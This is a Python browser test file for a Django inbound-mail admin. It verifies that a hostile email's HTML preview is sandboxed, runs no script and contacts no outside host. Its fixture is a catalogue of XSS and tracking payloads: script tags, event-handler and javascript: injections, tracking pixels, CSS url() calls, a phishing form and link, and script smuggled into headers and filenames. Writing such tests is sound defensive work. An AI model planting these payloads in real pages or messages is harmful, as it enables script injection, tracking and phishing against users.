"""In a real browser: hostile mail shown in the admin runs no script and fetches nothing
from outside the server's origin (list page, message page, the preview frame's page)."""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from django.urls import reverse

from django_inbound_smtp.models import InboundMessage, Mailbox
from tests.browser_kit import AdminBrowser, deliver_over_smtp
from tests.browser_mail import RECIPIENTS

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

TRACKER = "https://tracker.example"
PHISH = "https://bank.example.test/login?session=1"
# The message page's preview frame (its hooks are listed atop its change_form.html).
PREVIEW = "iframe#message-html-preview"

# Everything an HTML mail can do to run code or phone home, each with a visible marker
# so the test can tell the preview really rendered it.
HOSTILE_HTML = f"""<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url={TRACKER}/refresh">
<link rel="stylesheet" href="{TRACKER}/style.css">
<link rel="prefetch" href="{TRACKER}/prefetch">
<style>
@import url("{TRACKER}/import.css");
@font-face {{ font-family: spy; src: url("{TRACKER}/font.woff"); }}
body {{ background: url("{TRACKER}/background.png"); font-family: spy, sans-serif; }}
</style>
<script>alert("inline script")</script>
<script src="{TRACKER}/evil.js"></script>
<base href="{TRACKER}/">
</head>
<body onload="alert('body onload')">
<h1 id="hostile-heading">Quarterly report</h1>
<img id="pixel" src="{TRACKER}/pixel.gif?who=staff" width="1" height="1" alt="">
<img src="relative-image.png" alt="relative">
<img src="x" onerror="alert('img onerror')" alt="broken">
<svg onload="alert('svg onload')"><image href="{TRACKER}/svg.png"/></svg>
<div style="background-image: url('{TRACKER}/inline-style.png')">styled</div>
<iframe src="{TRACKER}/frame"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="{TRACKER}/object.swf"></object>
<video poster="{TRACKER}/poster.jpg" src="{TRACKER}/video.mp4"></video>
<form action="{TRACKER}/phish" method="post">
  <input name="password" autofocus onfocus="alert('onfocus')">
  <button id="phish-submit" type="submit">Log in</button>
</form>
<a id="js-link" href="javascript:alert('javascript link')">Open the invoice</a>
<a id="phish-link" href="{PHISH}">Verify your account</a>
</body></html>
"""


def _hostile_message() -> bytes:
    message = EmailMessage()
    message["From"] = "\"<img src=x onerror=alert('from')>\" <evil@example.test>"
    message["To"] = RECIPIENTS[0]
    message["Subject"] = "<script>alert('subject')</script> Invoice"
    message["Message-ID"] = "<hostile@example.test>"
    message.set_content("The text part. <script>alert('text')</script>")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    message.add_attachment(
        b"<script>alert('attachment')</script>",
        maintype="text",
        subtype="html",
        filename="<svg onload=alert('filename')>.html",
    )
    # An image type that can carry script, and one whose name claims a raster image:
    # neither may become a live thumbnail.
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        f'<script>alert("svg script")</script><image href="{TRACKER}/svg-image.png"/></svg>'
    )
    message.add_attachment(
        svg.encode(),
        maintype="image",
        subtype="svg+xml",
        filename="chart.svg",
    )
    message.add_attachment(
        HOSTILE_HTML.encode(), maintype="image", subtype="png", filename="photo.png"
    )
    return message.as_bytes()


@pytest.fixture
def hostile(mailboxes: list[Mailbox]) -> InboundMessage:
    [stored] = deliver_over_smtp([_hostile_message()])
    assert stored.html, "the HTML part was stored (else the preview tests nothing)"
    return stored


async def test_hostile_mail_runs_nothing_and_fetches_nothing_outside(
    admin: AdminBrowser, hostile: InboundMessage
) -> None:
    page = await admin.open(reverse("admin:inbound_smtp_inboundmessage_changelist"))
    # The hostile subject is in the list, as text.
    assert await page.get_by_text("<script>alert('subject')</script> Invoice").count() == 1

    page = await admin.open(reverse("admin:inbound_smtp_inboundmessage_change", args=[hostile.pk]))
    frame_element = page.locator(PREVIEW)
    preview_path = await frame_element.get_attribute("src")
    assert preview_path, "the message page embeds the HTML preview"
    sandbox = await frame_element.get_attribute("sandbox")
    assert sandbox is not None
    assert not set(sandbox.split()) & {
        "allow-scripts",
        "allow-same-origin",
        "allow-forms",
        "allow-top-navigation",
    }
    preview = page.frame_locator(PREVIEW)
    # The preview did render the hostile HTML (so the absences below mean something).
    await preview.locator("#hostile-heading").wait_for()
    # Clicking what a victim would click does nothing either.
    await preview.locator("#js-link").click()
    await preview.locator("#phish-submit").click()
    await page.wait_for_load_state("networkidle")

    # Every tab shown in turn (their content is in the page from the start; showing it
    # is what would start a lazy load).
    for tab in await page.locator("#inbound-tablist [role=tab]").all():
        await tab.click()
    await page.wait_for_load_state("networkidle")
    assert await page.locator("#panel-attachments a.inbound-download").count() == 3

    # The preview's own page, opened on its own (a link a colleague might be sent).
    page = await admin.open(preview_path)
    assert await page.locator("#hostile-heading").is_visible()
    await page.locator("#js-link").click()
    await page.wait_for_load_state("networkidle")

    assert admin.guard.dialogs == []
    assert admin.guard.outside_requests == []


async def test_the_guard_sees_dialogs_and_outside_requests(admin: AdminBrowser) -> None:
    """The two assertions above can fail: the same browser set-up notices a dialog and
    a request to another origin when a page without our protections makes them."""
    admin.guard.expect_clean = False
    await admin.page.set_content(
        f'<img src="{TRACKER}/pixel.gif"><script>alert("unprotected")</script>'
    )
    await admin.page.wait_for_load_state("networkidle")
    assert admin.guard.dialogs == ["alert: unprotected"]
    assert admin.guard.outside_requests == [f"{TRACKER}/pixel.gif"]


async def test_a_link_in_the_preview_opens_a_warning_page_never_the_site(
    admin: AdminBrowser, hostile: InboundMessage
) -> None:
    message_page = reverse("admin:inbound_smtp_inboundmessage_change", args=[hostile.pk])
    page = await admin.open(message_page)
    preview = page.frame_locator(PREVIEW)
    async with admin.context.expect_page() as opened:
        await preview.locator("#phish-link").click()
    warning = await opened.value
    await warning.wait_for_load_state("networkidle")
    # A new tab on our own origin that names the real target; the admin stays put.
    assert warning.url.startswith(admin.live_server.url + "/")
    assert await warning.locator("#external-link-target").inner_text() == PHISH
    assert page.url == admin.url(message_page)
    assert admin.guard.outside_requests == []
    assert admin.guard.dialogs == []
